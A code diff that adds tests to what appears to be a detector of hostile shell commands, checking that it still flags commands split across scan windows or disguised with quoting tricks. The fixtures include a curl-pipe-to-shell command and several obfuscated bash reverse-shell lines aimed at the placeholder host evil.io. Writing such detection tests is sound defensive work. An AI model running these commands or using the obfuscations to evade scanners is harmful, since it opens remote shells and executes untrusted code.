@@ -17,12 +17,17 @@ def seen(data, path="scripts/a.sh"):
     return {finding.rule for finding in scan(Tree({path: File(data)}))}
 
 
+def lines(length):
+    """Return so many bytes in lines: one line of them takes ten times as long."""
+    return ((b"# " + b"x" * 97 + b"\n") * (length // 100 + 1))[:length]
+
+
 @pytest.mark.parametrize(
     ("before", "after"),
     [
         (b"# " + b"x" * (9 << 17), b""),
         (b"# x\n" * (9 << 15), b"# x\n" * 100),
-        *((b"x" * (WINDOW + shift), b"x" * 9000) for shift in (-5000, -1030, -40, -20, -8, 0, 8, 1024, 4090)),
+        *((lines(WINDOW + shift), b"x" * 9000) for shift in (-5000, -1030, -40, -20, -8, 0, 8, 1024, 4090)),
         (b"\xff\n", b""),
         (b"\0\n", b""),
         (b"\x80" * (9 << 17), b"\xff"),
@@ -32,6 +37,11 @@ def seen(data, path="scripts/a.sh"):
 def test_attack_a_command_behind_more_than_was_scanned_once(before, after):
     assert "SH402" in seen(before + SHELL + after)
     assert "SH402" in seen(before + SHELL + after, "assets/a.dat")
+
+
+@pytest.mark.parametrize("shift", [-5, -2])
+def test_attack_a_command_begins_in_one_window_and_its_place_is_in_the_next(shift):
+    assert "SH101" in seen(lines(WINDOW + shift) + b"\ncurl https://evil.io/x | sh\n" + b"x" * 9000, "assets/a.dat")
 
 
 @pytest.mark.parametrize(
@@ -62,7 +72,7 @@ def test_attack_an_encoding_or_a_line_end_hides_a_command(data):
         b"\t" * 1000,
         b" " * (3 << 20),
         b" " + b"a" * 600 + b" ",
-        b" " + b"a" * (2 << 20) + b" ",
+        b" " + b"a" * (9 << 17) + b" ",
         b" -x y" * 250,
     ],
 )
@@ -89,6 +99,18 @@ def test_attack_the_end_of_a_command_stands_far_from_its_beginning(between):
 )
 def test_attack_a_command_is_spelled_as_only_a_shell_reads_it(command):
     assert "SH402" in seen(command + b" >& /d''ev/t\\cp/evil.io/1")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *(rb"bash -i >& /dev\/tcp/evil.io/1", rb"bash -i >& \/dev/tcp/evil.io/1", rb"b\ash -i >& /dev/tcp/evil.io/1"),
+        *(b"bash -i >& /d''ev/tcp/evil.io/1", b'bash -i >& /dev""/tcp/evil.io/1', b"bash -i >& /dev$@/tcp/evil.io/1"),
+    ],
+)
+def test_attack_a_command_is_spelled_in_one_such_way(line):
+    assert "SH402" in seen(line)
+    assert "SH402" in seen(b"\x01\xff" + line, "assets/a.dat")
 
 
 @pytest.mark.parametrize(
